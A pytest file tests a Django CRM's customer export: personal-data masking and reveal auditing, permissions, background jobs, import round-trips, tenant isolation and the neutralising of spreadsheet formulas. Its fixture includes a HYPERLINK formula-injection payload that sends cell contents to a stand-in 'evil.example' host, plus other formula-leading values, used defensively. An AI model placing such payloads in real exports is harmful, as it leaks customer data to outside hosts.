"""Customer export: masking and its audit, formula injection, the filter, segments, selections, tenant isolation."""

import csv
import io
from datetime import UTC, datetime
from types import SimpleNamespace

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation
from django.utils.html import escape
from rest_framework.test import APIClient

from scrm.customers import exports
from scrm.customers.exports import COLUMNS, EXPORT_PERMISSION, MSG_XLSX_TOO_MANY, REVEALED_FIELDS
from scrm.customers.imports import (
    customer_import_apply,
    customer_import_confirm,
    customer_import_upload,
    customer_import_validate,
)
from scrm.customers.phones import mask_mobile, name_is_masked, national_mobile
from scrm.models import (
    Channel,
    ChannelIdentity,
    Customer,
    CustomerExport,
    DataScope,
    PiiReveal,
    Region,
    Role,
    Segment,
    Tag,
    TagGroup,
)
from scrm.platform.tenancy import tenant_scope
from scrm.services import agent_profile_upsert, role_assign, role_save
from tests.tenancy import assert_isolated, tenant_pair

pytestmark = pytest.mark.django_db

EXPORT_URL = "/customers/export/"
API_EXPORT_URL = "/api/v1/customers/export/"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def customers(scoped):
    group = TagGroup.objects.create(organization=scoped, name="客户类型")
    vip_tag = Tag.objects.create(organization=scoped, group=group, name="老客户")
    region = Region.objects.create(organization=scoped, name="华东大区", code="EAST", level=Region.Level.AREA,
                                   path="/EAST/")
    zhang = Customer.objects.create(
        organization=scoped, display_name="张三", real_name="张三丰", mobile="+8613812345678",
        email="zhang@example.com", level=Customer.Level.VIP, region=region,
        last_contact_at=datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
    )
    zhang.tags.add(vip_tag, through_defaults={"organization": scoped})
    ChannelIdentity.objects.create(organization=scoped, customer=zhang, channel=Channel.WECHAT_OA, external_id="o1")
    evil = Customer.objects.create(organization=scoped, display_name=EVIL, real_name="@SUM(1+1)",
                                   email="-2+3@example.com")
    plain = Customer.objects.create(organization=scoped, display_name="李四")
    # created_at is set on insert; give the first a known instant to check the time zone.
    Customer.objects.filter(pk=zhang.pk).update(created_at=datetime(2026, 1, 31, 20, 5, tzinfo=UTC))
    return {"zhang": zhang, "evil": evil, "plain": plain}


def _csv(response):
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return rows[0], {row[0]: row for row in rows[1:]}


def _xlsx(response):
    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    return [c.value for c in rows[0]], {row[0].value: row for row in rows[1:]}


def _zh(*texts):
    """Texts as the export writes them: in the UI's language, Chinese unless the user switched."""
    with translation.override("zh-hans"):
        return [str(text) for text in texts]


def _client(user):
    client = Client()
    client.force_login(user)
    return client


def _api(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


def response_from(content):
    """A stand-in response for _xlsx() around bytes already read."""
    return SimpleNamespace(status_code=200, streaming_content=[content])


def _agent_sees_them(agent, customers):
    """The organization has a region: the agent serves it and owns the customers that have none."""
    agent_profile_upsert(user=agent, regions=[customers["zhang"].region])
    Customer.objects.filter(pk__in=[customers["evil"].pk, customers["plain"].pk]).update(owner=agent)


def _grant_export(user, ops_admin):
    """A custom role that adds the export permission (and nothing that reveals personal data)."""
    role = role_save(organization=ops_admin.organization, by=ops_admin, name="导出专员",
                     permissions=["scrm.view_customer", EXPORT_PERMISSION], modules=["customers"],
                     data_scope=DataScope.ORGANIZATION)
    role_assign(role=role, user=user, by=ops_admin)


def test_an_agent_may_not_export_in_bulk_on_the_page_nor_through_the_api(customers, agent):
    _agent_sees_them(agent, customers)
    client = _client(agent)
    assert client.get(EXPORT_URL).status_code == 403
    assert client.get(EXPORT_URL, {"format": "csv"}).status_code == 403
    assert client.post(EXPORT_URL, {"ids": [customers["zhang"].pk], "format": "csv"}).status_code == 403
    assert _api(agent).get(API_EXPORT_URL).status_code == 403
    assert not PiiReveal.objects.exists()


def test_a_role_granting_export_gives_an_agent_masked_personal_data_and_no_reveal_is_recorded(
        customers, agent, ops_admin):
    _agent_sees_them(agent, customers)
    _grant_export(agent, ops_admin)
    _titles, rows = _csv(_client(agent).get(EXPORT_URL, {"format": "csv"}))
    assert rows["张三"][1:3] == ["138****5678", "张**"]
    _titles, rows = _csv(_api(agent).get(API_EXPORT_URL))
    assert rows["张三"][1:3] == ["138****5678", "张**"]
    assert not PiiReveal.objects.exists()


def test_the_api_export_is_the_page_export_with_the_list_filters(customers, ops_admin):
    titles, rows = _csv(_api(ops_admin).get(API_EXPORT_URL, {"level": "vip"}))
    assert titles == _zh(*[title for _name, title in COLUMNS])
    assert set(rows) == {"张三"} and rows["张三"][1] == "13812345678"
    assert PiiReveal.objects.filter(user=ops_admin).count() == 1
    _titles, rows = _csv(_api(ops_admin).get(API_EXPORT_URL, {"level": "vip", "pii": "masked"}))
    assert rows["张三"][1] == "138****5678"
    assert PiiReveal.objects.filter(user=ops_admin).count() == 1


def test_an_ops_admin_gets_full_personal_data_and_each_reveal_is_recorded(customers, ops_admin):
    titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv"}))

    assert titles == _zh(*(title for _name, title in COLUMNS))
    assert rows["张三"] == ["张三", "13812345678", "张三丰", "zhang@example.com", *_zh(Customer.Level.VIP.label),
                          "华东大区", "老客户", "", *_zh(Channel.WECHAT_OA.label), "2026-02-01 04:05",
                          "2026-03-02 00:30", "", "wechat_oa::o1"]
    # One reveal per exported customer that has a mobile or a real name (李四 has neither).
    reveals = PiiReveal.objects.order_by("customer_id")
    assert [(r.customer_id, r.user_id, r.fields) for r in reveals] == [
        (customers["zhang"].pk, ops_admin.pk, REVEALED_FIELDS), (customers["evil"].pk, ops_admin.pk, REVEALED_FIELDS)]


def test_a_revealer_may_ask_for_a_masked_file_and_then_nothing_is_recorded(customers, ops_admin):
    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "pii": "masked"}))
    assert rows["张三"][1:3] == ["138****5678", "张**"]
    assert not PiiReveal.objects.exists()


def test_formulas_are_neutralised_in_csv(customers, ops_admin):
    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv"}))
    row = rows["'" + EVIL]
    assert (row[2], row[3]) == ("'@SUM(1+1)", "'-2+3@example.com")


def test_formulas_are_neutralised_in_xlsx_and_dates_are_shanghai_time(customers, ops_admin):
    titles, rows = _xlsx(_client(ops_admin).get(EXPORT_URL, {"format": "xlsx"}))

    assert titles == _zh(*(title for _name, title in COLUMNS))
    evil = rows["'" + EVIL]
    assert all(cell.data_type != "f" for cell in evil)
    assert (evil[2].value, evil[3].value) == ("'@SUM(1+1)", "'-2+3@example.com")
    zhang = rows["张三"]
    assert zhang[1].value == "13812345678"
    # 20:05 UTC is 04:05 the next day in Shanghai; Excel has no time zones, so the cell holds Shanghai time.
    assert zhang[9].value.isoformat() == "2026-02-01T04:05:00"
    assert PiiReveal.objects.count() == 2


def test_the_list_filter_limits_the_rows(customers, ops_admin):
    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "level": "vip"}))
    assert list(rows) == ["张三"]
    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "q": "李"}))
    assert list(rows) == ["李四"]
    # Only what was exported is recorded.
    assert PiiReveal.objects.count() == 1


def test_a_segment_exports_its_saved_filter(customers, ops_admin, scoped):
    segment = Segment.objects.create(organization=scoped, name="VIP", query="level=vip", created_by=ops_admin)
    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "segment": segment.pk}))
    assert list(rows) == ["张三"]


def test_a_selection_exports_exactly_the_chosen_customers(customers, ops_admin):
    chosen = [customers["plain"].pk, customers["zhang"].pk]
    response = _client(ops_admin).post(EXPORT_URL, {"ids": chosen, "format": "csv"})
    _titles, rows = _csv(response)
    assert set(rows) == {"张三", "李四"}


def test_the_export_page_says_how_many_and_how(customers, ops_admin, agent):
    _agent_sees_them(agent, customers)
    _grant_export(agent, ops_admin)
    page = _client(ops_admin).get(EXPORT_URL, {"level": "vip"}).content.decode()
    assert 'data-testid="export-reveal"' in page and "level=vip&amp;format=csv" in page
    page = _client(agent).get(EXPORT_URL).content.decode()
    assert 'data-testid="export-masked"' in page and "3" in page
    page = _client(agent).get(EXPORT_URL, {"q": "nobody"}).content.decode()
    assert 'data-testid="export-empty"' in page


@pytest.mark.parametrize("sync_rows", [20_000, 1], ids=["in the request", "in the background"])
def test_excel_refuses_more_rows_than_its_cap_with_a_clear_message(customers, ops_admin, monkeypatch, sync_rows):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    monkeypatch.setattr(exports, "SYNC_EXPORT_ROWS", sync_rows)
    client = _client(ops_admin)
    response = client.get(EXPORT_URL, {"format": "xlsx", "level": ["vip", "normal"]}, follow=True)
    assert response.redirect_chain[-1][0] == f"{EXPORT_URL}?level=vip&level=normal"
    assert escape(str(MSG_XLSX_TOO_MANY % {"limit": "2", "count": "3"})) in response.content.decode()
    assert not PiiReveal.objects.exists()
    assert not CustomerExport.objects.exists()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_large_export_is_produced_in_the_background_for_its_requester_only(
        customers, ops_admin, make_user, monkeypatch, eager_tasks, django_capture_on_commit_callbacks, file_format):
    monkeypatch.setattr(exports, "SYNC_EXPORT_ROWS", 2)
    client = _client(ops_admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(EXPORT_URL, {"format": file_format})
    job = CustomerExport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"{EXPORT_URL}{job.pk}/"

    page = client.get(response["Location"]).content.decode()
    assert 'data-status="done"' in page and 'data-testid="export-download"' in page
    download = client.get(f"{EXPORT_URL}{job.pk}/download/")
    if file_format == "csv":
        _titles, rows = _csv(download)
        assert rows["张三"][1] == "13812345678"
    else:
        _titles, rows = _xlsx(download)
        assert rows["张三"][1].value == "13812345678"
        assert rows["'" + EVIL][0].data_type == "s"
    assert len(rows) == 3
    assert PiiReveal.objects.filter(user=ops_admin).count() == 2

    colleague = _client(make_user(ops_admin.organization, Role.OPS_ADMIN))
    for suffix in ("", "progress/", "download/"):
        assert colleague.get(f"{EXPORT_URL}{job.pk}/{suffix}").status_code == 404


def test_a_full_export_imports_back_as_updates_of_the_same_customers(customers, ops_admin):
    """What people do: export, edit in Excel, import. Our titles, region names, tags and levels read back."""
    response = _client(ops_admin).get(EXPORT_URL, {"format": "xlsx", "level": "vip"})
    content = b"".join(response.streaming_content)
    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
                                   file=SimpleUploadedFile("customers.xlsx", content))
    batch = customer_import_validate(batch_id=batch.pk)

    assert (batch.new_count, batch.update_count, batch.error_count) == (0, 1, 0)
    assert batch.preview[0]["customer_id"] == customers["zhang"].pk
    assert batch.preview[0]["region"] == "华东大区"


def test_an_export_with_notes_and_identities_imports_back_whole(customers, ops_admin, scoped):
    """Export → import into an organization that lost them: the same customers come back, notes and every channel
    identity included."""
    zhang = customers["zhang"]
    Customer.objects.filter(pk=zhang.pk).update(notes="老客户，周末联系")
    ChannelIdentity.objects.create(organization=scoped, customer=zhang, channel=Channel.YOUZAN, app_id="shop-1",
                                   external_id="buyer-9")
    response = _client(ops_admin).get(EXPORT_URL, {"format": "xlsx", "level": "vip"})
    content = b"".join(response.streaming_content)
    _titles, rows = _xlsx(response_from(content))
    assert rows["张三"][-2].value == "老客户，周末联系"
    assert rows["张三"][-1].value == "wechat_oa::o1; youzan:shop-1:buyer-9"

    # Gone (as after a bad clean-up): the import creates them again from the file.
    ChannelIdentity.objects.filter(customer=zhang).delete()
    PiiReveal.objects.all().delete()
    Customer.objects.filter(pk=zhang.pk).delete()
    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
                                   file=SimpleUploadedFile("customers.xlsx", content))
    batch = customer_import_validate(batch_id=batch.pk)
    assert (batch.new_count, batch.update_count, batch.error_count) == (1, 0, 0)
    customer_import_confirm(batch=batch, user=ops_admin)
    customer_import_apply(batch_id=batch.pk)
    again = Customer.objects.get(display_name="张三")
    assert (again.mobile, again.real_name, again.notes) == ("+8613812345678", "张三丰", "老客户，周末联系")
    assert set(again.identities.values_list("channel", "app_id", "external_id")) == {
        (Channel.WECHAT_OA, "", "o1"), (Channel.YOUZAN, "shop-1", "buyer-9")}


def test_a_masked_export_is_refused_row_by_row_when_imported_back(customers, ops_admin):
    """A masked file (138****5678, 张**) must never write its stars over, or into, real data."""
    Customer.objects.filter(pk=customers["zhang"].pk).update(real_name="")
    response = _client(ops_admin).get(EXPORT_URL, {"format": "csv", "level": "vip", "pii": "masked"})
    content = b"".join(response.streaming_content)
    assert b"138****5678" in content
    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
                                   file=SimpleUploadedFile("customers.csv", content))
    batch = customer_import_validate(batch_id=batch.pk)
    assert (batch.new_count, batch.update_count, batch.error_count) == (0, 0, 1)
    error = batch.row_errors.get()
    assert (error.code, error.params) == ("masked", {"value": "138****5678"})
    assert Customer.objects.get(pk=customers["zhang"].pk).real_name == ""


def test_agents_export_only_within_their_organization(db):
    def seed(tenant):
        Customer.objects.create(organization=tenant.organization, display_name=f"{tenant.marker} 张三",
                                mobile="+8613812345678")

    a, b = tenant_pair(seed)
    for role in (Role.OPS_ADMIN, Role.SUPERVISOR):
        assert_isolated(Client(), a, b, f"{EXPORT_URL}?format=csv", role=role)
        assert_isolated(Client(), a, b, f"{EXPORT_URL}?format=xlsx", role=role, expect_marker=False)
        assert_isolated(APIClient(), a, b, API_EXPORT_URL, role=role)
    # Ids of another organization select nothing.
    with tenant_scope(b.organization):
        b_ids = list(Customer.objects.values_list("pk", flat=True))
    _titles, rows = _csv(_client(a.users[Role.OPS_ADMIN]).post(EXPORT_URL, {"ids": b_ids, "format": "csv"}))
    assert rows == {}


@pytest.mark.parametrize("e164", ["+8613812345678", "+8619912340000", "+85291234567", "+14155550123"])
def test_the_fast_mobile_formatting_matches_the_phone_helpers(e164):
    assert exports.export_mobile(e164, reveal=True) == national_mobile(e164)
    assert exports.export_mobile(e164, reveal=False) == mask_mobile(e164)


def test_a_masked_one_character_real_name_is_refused_when_imported_back(customers, ops_admin):
    """mask_name turns 张 into a lone star: imported back, that star must not replace the real name."""
    Customer.objects.filter(pk=customers["zhang"].pk).update(real_name="张", mobile="")
    response = _client(ops_admin).get(EXPORT_URL, {"format": "csv", "level": "vip", "pii": "masked"})
    content = b"".join(response.streaming_content)
    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
                                   file=SimpleUploadedFile("customers.csv", content))
    batch = customer_import_validate(batch_id=batch.pk)
    assert (batch.new_count, batch.update_count, batch.error_count) == (0, 0, 1)
    error = batch.row_errors.get()
    assert (error.code, error.params) == ("masked", {"value": "*"})
    assert Customer.objects.get(pk=customers["zhang"].pk).real_name == "张"


@pytest.mark.parametrize(("name", "masked"), [("*", True), ("**", True), ("张*", True), ("欧阳*", False),
                                              ("张**", True), ("张", False), ("张三", False), ("", False),
                                              ("a*b", False)])
def test_what_counts_as_a_masked_real_name(name, masked):
    assert name_is_masked(name) is masked


def test_a_background_export_is_written_in_the_language_of_whoever_asked_for_it(
        customers, ops_admin, monkeypatch, django_capture_on_commit_callbacks):
    """A worker has no user language: a large export asked for on the English page came out with Chinese column
    titles (姓名, 手机 ...), and its refusal in Chinese on the English page."""
    monkeypatch.setattr(exports, "SYNC_EXPORT_ROWS", 2)
    client = _client(ops_admin)
    client.cookies["django_language"] = "en"
    with django_capture_on_commit_callbacks(execute=False):
        response = client.get(EXPORT_URL, {"format": "csv"})
    job = CustomerExport.objects.get()
    assert response.status_code == 302

    with translation.override("zh-hans"):  # as on a worker: the product's language
        exports.customer_export_run(export_id=job.pk)

    titles, rows = _csv(client.get(f"{EXPORT_URL}{job.pk}/download/"))
    with translation.override("en"):
        assert titles == [str(title) for _name, title in COLUMNS]
    assert titles[:2] == ["Name", "Mobile"] and len(rows) == 3
